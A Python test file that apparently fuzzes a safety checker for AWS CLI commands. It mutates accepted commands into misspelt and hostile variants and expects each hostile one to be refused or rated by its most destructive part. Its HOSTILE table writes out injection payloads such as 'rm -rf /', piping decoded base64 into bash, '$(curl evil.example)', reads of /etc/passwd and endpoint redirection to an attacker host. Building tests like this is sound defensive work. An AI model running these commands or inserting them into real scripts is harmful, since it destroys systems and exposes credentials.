"""Spoilt commands: whatever is done to a command that is accepted, it is refused, or judged by its worst part."""

from __future__ import annotations

import random
import re
import shlex
from collections.abc import Callable

import pytest

from escher.apis import catalogue
from escher.contract.ports import Reading
from escher.scripts.reader import Reader
from tests.scripts.real_commands import as_awscli_reads, real_commands

pytestmark = pytest.mark.campaign

HOSTILE: dict[str, Callable[[str, random.Random], str]] = {
    "another command": lambda command, _: f"{command}; rm -rf /",
    "piped into a shell": lambda command, _: f"{command} | sh",
    "piped into a decoder": lambda command, _: f"{command} | base64 -d | bash",
    "command substitution": lambda command, seeded: _replaced(command, '"$(curl evil.example)"', seeded),
    "backquotes": lambda command, seeded: _replaced(command, "`id`", seeded),
    "here-document": lambda command, _: f"{command} <<EOF\nx\nEOF",
    "here-string": lambda command, _: f"{command} <<< x",
    "eval": lambda command, _: f"eval {shlex.quote(command)}",
    "base64": lambda command, _: f"echo YXdz | base64 -d; {command}",
    "a file": lambda command, seeded: _replaced(command, "file:///etc/passwd", seeded),
    "binary file": lambda command, seeded: _replaced(command, "fileb:///etc/passwd", seeded),
    "an address": lambda command, seeded: _replaced(command, "http://evil.example/x", seeded),
    "another endpoint": lambda command, _: f"{command} --endpoint-url https://evil.example",
    "another endpoint, joined": lambda command, _: f"{command} --endpoint-url=https://evil.example",
    "another endpoint, shortened": lambda command, _: f"{command} --endpoint https://evil.example",
    "another profile": lambda command, _: f"{command} --profile admin",
    "no certificate check": lambda command, _: f"{command} --no-verify-ssl",
    "arithmetic on a variable": lambda command, _: f'if [[ "$1" -gt 0 ]]; then {command}; fi',
    "arithmetic expansion": lambda command, seeded: _replaced(command, "$((x[$(id)]))", seeded),
    "a subscript": lambda command, _: f'x[$1]=1; {command}',
    "an indirect expansion": lambda command, seeded: _replaced(command, '"${!1}"', seeded),
    "unquoted": lambda command, seeded: _replaced(command, "$1", seeded),
    "written to a file": lambda command, _: f"{command} > out",
    "in the background": lambda command, _: f"{command} & wait",
    "a function": lambda command, _: f"aws() {{ curl evil.example; }}; {command}",
    "another path": lambda command, _: f"PATH=/tmp; {command}",
    "other credentials": lambda command, _: f"AWS_PROFILE=admin {command}",
    "process substitution": lambda command, seeded: _replaced(command, "<(id)", seeded),
}  # fmt: skip


def _words(command: str) -> list[str]:
    return shlex.split(command)


def _replaced(command: str, text: str, seeded: random.Random) -> str:
    """The command with one of its values, or a new one, replaced by a text that is no longer quoted."""
    words = _words(command)
    places = [place for place in range(3, len(words)) if not words[place].startswith("-")]
    if places:
        words[seeded.choice(places)] = "\0"
    else:
        words += ["--query", "\0"]
    return shlex.join(words).replace(shlex.quote("\0"), text)


def misspelt_operation(command: str, seeded: random.Random) -> str:
    """One letter of the operation twice, gone, or another."""
    words = _words(command)
    place = seeded.randrange(len(words[2]))
    change = seeded.choice((words[2][place] * 2, "", seeded.choice("qxzj")))
    words[2] = words[2][:place] + change + words[2][place + 1 :]
    return shlex.join(words)


def renamed_flag(command: str, seeded: random.Random) -> str:
    """One letter more in a flag."""
    words = _words(command)
    flags = [place for place, word in enumerate(words) if re.match(r"--[a-z]", word)] or [len(words)]
    chosen = seeded.choice(flags)
    words[chosen:chosen] = [] if chosen < len(words) else ["--query"]
    name, equals, value = words[chosen].partition("=")
    place = seeded.randrange(3, len(name) + 1)
    words[chosen] = name[:place] + seeded.choice("qxzj") + name[place:] + equals + value
    return shlex.join(words)


def invented_flag(command: str, seeded: random.Random) -> str:
    """A flag that no command has."""
    return f"{command} --{seeded.choice(('force-it', 'target-all', 'skip-check', 'yes'))}-{seeded.randrange(9)} x"


def missing_parameter(command: str, seeded: random.Random) -> str:
    """One flag with its values left out."""
    words = _words(command)
    flags = [place for place, word in enumerate(words) if word.startswith("--")] or [3]
    start = seeded.choice(flags)
    end = next((place for place in flags if place > start), len(words))
    return shlex.join(words[:start] + words[end:])


INVALID = (misspelt_operation, renamed_flag, invented_flag, missing_parameter)


def judged(command: str) -> Reading:
    """As a step of a plan would be."""
    return Reader().read(command, "bash", ("1",))


def originals(count: int, seeded: random.Random) -> list[str]:
    """Real commands that are accepted as they are."""
    accepted = [
        command
        for command in real_commands()
        if not Reader().read(command, "bash").problems and " wait " not in command
    ]
    return [seeded.choice(accepted) for _ in range(count)]


def test_invalid_mutants_are_refused(campaign: Callable[[int], int]) -> None:
    """Misspelt, renamed, invented, missing: every one that awscli refuses is refused here."""
    seeded = random.Random(5)
    mutants = [seeded.choice(INVALID)(command, seeded) for command in originals(campaign(2_500), seeded)]
    refused = [mutant for mutant, call in zip(mutants, as_awscli_reads(mutants), strict=True) if call is None]
    assert len(refused) > len(mutants) // 2
    assert [mutant for mutant in refused if judged(mutant).effect != "unknown"] == []


def test_hostile_mutants_are_refused(campaign: Callable[[int], int]) -> None:
    """Every way out of the command that was shown."""
    seeded = random.Random(7)
    kinds = list(HOSTILE)
    mutants = [
        HOSTILE[kinds[number % len(kinds)]](command, seeded)
        for number, command in enumerate(originals(campaign(2_500), seeded))
    ]
    assert [mutant for mutant in mutants if judged(mutant).effect != "unknown"] == []


def test_a_hidden_change_decides_the_verdict(campaign: Callable[[int], int]) -> None:
    """A destroying command after, before or within another one makes the whole destroy."""
    seeded = random.Random(9)
    destroying = "aws ec2 terminate-instances --instance-ids i-1"
    forms = (
        "{0}; {1}",
        "{1}\n{0}",
        "{0} && {1}",
        "x=$({1})\n{0}",
        'if [[ "$1" == "2" ]]; then {1}; fi; {0}',
        "for i in a; do {1}; done; {0}",
    )
    scripts = [seeded.choice(forms).format(command, destroying) for command in originals(campaign(500), seeded)]
    assert {judged(script).effect for script in scripts} <= {"destroy", "unknown"}


def test_no_change_is_taken_for_a_read(campaign: Callable[[int], int]) -> None:
    """Of operations whose names say that they change something, none reads."""
    seeded = random.Random(3)
    verbs = (
        "create",
        "delete",
        "update",
        "put",
        "start",
        "stop",
        "modify",
        "terminate",
        "attach",
        "detach",
        "reboot",
        "revoke",
        "set",
    )
    changing = [
        (service, name)
        for service in catalogue.services("aws")
        for name in catalogue.operations("aws", service)
        if name.startswith(verbs)
    ]
    chosen = [seeded.choice(changing) for _ in range(campaign(2_000))]
    effects = {
        judged(f"aws {service} {name}").operations[0].effect for service, name in chosen if _in_cli(service, name)
    }
    assert "read" not in effects and len(chosen) >= 20


def _in_cli(service: str, name: str) -> bool:
    spec = catalogue.operation("aws", service, name)
    return spec is not None and spec.in_cli
